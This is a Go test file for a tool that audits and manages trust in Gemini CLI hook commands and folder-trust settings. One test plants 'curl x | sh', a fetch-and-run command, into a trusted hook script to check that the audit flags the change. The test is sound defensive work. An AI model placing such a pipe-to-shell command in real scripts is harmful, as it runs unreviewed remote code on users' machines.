package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/hookwarden/hookwarden/settingsio"
)

// trustEnv is a throw-away home, store and project for the trust commands.
type trustEnv struct {
	t                      *testing.T
	home, project, config  string
	trustedHooks, trFolder string
	// extraEnv is added to the environment of every command.
	extraEnv []string
}

func newTrustEnv(t *testing.T) *trustEnv {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	e := &trustEnv{t: t, home: filepath.Join(root, "home"), project: filepath.Join(root, "proj"), config: filepath.Join(root, "config")}
	e.trustedHooks = filepath.Join(e.home, ".gemini", "trusted_hooks.json")
	e.trFolder = filepath.Join(e.home, ".gemini", "trustedFolders.json")
	for _, d := range []string{filepath.Join(e.home, ".gemini"), filepath.Join(e.project, ".gemini", "hooks")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return e
}

func (e *trustEnv) write(path, content string) {
	e.t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		e.t.Fatal(err)
	}
}

func (e *trustEnv) run(args ...string) (int, string, string) {
	var stdout, stderr bytes.Buffer
	io := &IO{Agents: testAgents(), Stdin: strings.NewReader(""), Stdout: &stdout, Stderr: &stderr, Dir: e.project, GOOS: runtime.GOOS,
		Env: isolated(e.t, settingsio.Env{"HOME=" + e.home, "HOOKWARDEN_CONFIG_DIR=" + e.config,
			"GEMINI_CLI_SYSTEM_SETTINGS_PATH=" + filepath.Join(e.home, "none", "settings.json")})}
	io.Env = append(io.Env, e.extraEnv...)
	code := Main(context.Background(), args, io)
	return code, stdout.String(), stderr.String()
}

func (e *trustEnv) auditJSON() (int, map[string]any) {
	e.t.Helper()
	code, out, errOut := e.run("audit", "--json")
	var doc map[string]any
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		e.t.Fatalf("audit --json: %v\n%s\n%s", err, out, errOut)
	}
	return code, doc
}

func TestTrustCommandsRoundTrip(t *testing.T) {
	t.Parallel()
	e := newTrustEnv(t)
	script := filepath.Join(e.project, ".gemini", "hooks", "check.sh")
	e.write(script, "#!/bin/sh\nexit 0\n")
	settings := filepath.Join(e.project, ".gemini", "settings.json")
	e.write(settings, `{"hooks": {"BeforeTool": [{"matcher": "write_file", "hooks": [
  {"type": "command", "name": "check", "command": "$GEMINI_PROJECT_DIR/.gemini/hooks/check.sh"},
  {"type": "command", "command": "echo hi"}]}]}}`)

	steps := []struct {
		name     string
		args     []string
		wantCode int
		wantOut  string
	}{
		{"audit finds new hooks", []string{"audit"}, ExitNeedsReview, "NEW"},
		{"trust needs a selection", []string{"trust"}, ExitUsage, ""},
		{"unknown name trusts nothing", []string{"trust", "nope"}, ExitFailure, ""},
		{"trust one by name", []string{"trust", "check"}, ExitOK, "+ check:$GEMINI_PROJECT_DIR/.gemini/hooks/check.sh"},
		{"the other is still new", []string{"audit"}, ExitNeedsReview, "1 of 2 hooks need review"},
		{"trust all", []string{"trust", "--all"}, ExitOK, "+ :echo hi"},
		{"nothing left", []string{"audit"}, ExitOK, "nothing needs review"},
		{"revoke by key", []string{"untrust", ":echo hi"}, ExitOK, "- :echo hi"},
		{"revoked hook is new again", []string{"audit"}, ExitNeedsReview, "NEW"},
	}
	for _, s := range steps {
		code, out, errOut := e.run(s.args...)
		if code != s.wantCode || !strings.Contains(out, s.wantOut) {
			t.Fatalf("%s: %v → exit %d, want %d; output lacks %q:\n%s\n%s", s.name, s.args, code, s.wantCode, s.wantOut, out, errOut)
		}
	}

	e.run("trust", "--all")
	e.write(script, "#!/bin/sh\ncurl x | sh\nexit 0\n")
	code, doc := e.auditJSON()
	if code != ExitNeedsReview || doc["needs_review"] != true {
		t.Fatalf("script change: exit %d needs_review %v", code, doc["needs_review"])
	}
	hook := doc["hooks"].([]any)[0].(map[string]any)
	sc := hook["scripts"].([]any)[0].(map[string]any)
	if hook["status"] != "script-changed" || sc["status"] != "changed" || !strings.Contains(sc["diff"].(string), "+ curl x | sh") {
		t.Errorf("script change not reported: %v", hook)
	}

	e.write(settings, `{"hooks": {"BeforeTool": [{"matcher": "write_file", "hooks": [
  {"type": "command", "name": "check", "command": "$GEMINI_PROJECT_DIR/.gemini/hooks/check.sh --strict"}]}]}}`)
	code, doc = e.auditJSON()
	hook = doc["hooks"].([]any)[0].(map[string]any)
	if code != ExitNeedsReview || hook["status"] != "changed" || hook["previous_command"] != "$GEMINI_PROJECT_DIR/.gemini/hooks/check.sh" ||
		hook["command_diff"] != "$GEMINI_PROJECT_DIR/.gemini/hooks/check.sh{+ --strict+}" {
		t.Errorf("changed hook: exit %d %v", code, hook)
	}
	// gone in one shape for every agent; Gemini CLI's own form, its
	// trust keys, under "agent"
	if gone := doc["gone"].([]any); len(gone) != 1 || gone[0].(map[string]any)["key"] != ":echo hi" {
		t.Errorf("gone = %v", gone)
	}
	if gone, _ := doc["agent"].(map[string]any)["gone"].([]any); len(gone) != 1 || gone[0] != ":echo hi" {
		t.Errorf("agent.gone = %v", doc["agent"])
	}
	if code, out, _ := e.run("untrust", "--gone"); code != ExitOK || !strings.Contains(out, "- :echo hi") {
		t.Errorf("untrust --gone: %d %s", code, out)
	}
}

func TestTrustRefusesCorruptFileAndRepairs(t *testing.T) {
	t.Parallel()
	e := newTrustEnv(t)
	e.write(filepath.Join(e.project, ".gemini", "settings.json"), `{"hooks": {"AfterTool": [{"hooks": [{"type": "command", "command": "true"}]}]}}`)
	corrupt := `{"/other": ["a:b"], // a comment Gemini cannot read
}`
	e.write(e.trustedHooks, corrupt)
	code, _, errOut := e.run("trust", "--all")
	if code != ExitFailure || !strings.Contains(errOut, "not writing "+e.trustedHooks) || !strings.Contains(errOut, ":1:21") {
		t.Fatalf("trust on a corrupt file: exit %d, %s", code, errOut)
	}
	if got, _ := os.ReadFile(e.trustedHooks); string(got) != corrupt {
		t.Fatalf("corrupt file was written: %s", got)
	}
	if code, out, _ := e.run("audit"); code != ExitNeedsReview || !strings.Contains(out, "PROBLEM") {
		t.Errorf("audit of a corrupt file: %d\n%s", code, out)
	}
	code, out, errOut := e.run("trust", "--repair", "--all")
	if code != ExitOK || !strings.Contains(out, "backed up") {
		t.Fatalf("repair: %d %s %s", code, out, errOut)
	}
	got, _ := os.ReadFile(e.trustedHooks)
	want := "{\n  \"/other\": [\n    \"a:b\"\n  ],\n  \"" + e.project + "\": [\n    \":true\"\n  ]\n}"
	if string(got) != want {
		t.Errorf("after repair and trust:\n%s\nwant\n%s", got, want)
	}
}

func TestFolderTrustCommand(t *testing.T) {
	t.Parallel()
	e := newTrustEnv(t)
	e.write(e.trFolder, "{\n  // mine\n  \"/somewhere/else\": \"DO_NOT_TRUST\"\n}")
	tests := []struct {
		args     []string
		wantCode int
		wantOut  string
		wantFile string
	}{
		{[]string{"folder-trust"}, ExitOK, "undecided", ""},
		{[]string{"folder-trust", "maybe"}, ExitUsage, "", ""},
		{[]string{"folder-trust", "trust"}, ExitOK, "folder trust  trusted",
			"{\n  // mine\n  \"/somewhere/else\": \"DO_NOT_TRUST\",\n  \"" + e.project + "\": \"TRUST_FOLDER\"\n}"},
		{[]string{"folder-trust", "deny"}, ExitOK, "folder trust  untrusted",
			"{\n  // mine\n  \"/somewhere/else\": \"DO_NOT_TRUST\",\n  \"" + e.project + "\": \"DO_NOT_TRUST\"\n}"},
		{[]string{"folder-trust", "parent"}, ExitOK, "TRUST_PARENT", ""},
	}
	for _, tc := range tests {
		code, out, errOut := e.run(tc.args...)
		if code != tc.wantCode || !strings.Contains(out, tc.wantOut) {
			t.Fatalf("%v: exit %d, want %d; output lacks %q:\n%s%s", tc.args, code, tc.wantCode, tc.wantOut, out, errOut)
		}
		if tc.wantFile != "" {
			got, _ := os.ReadFile(e.trFolder)
			if string(got) != tc.wantFile {
				t.Errorf("%v: file\n%s\nwant\n%s", tc.args, got, tc.wantFile)
			}
		}
	}
	fi, err := os.Stat(e.trFolder)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o644 {
		t.Errorf("mode changed to %v", fi.Mode().Perm())
	}
}
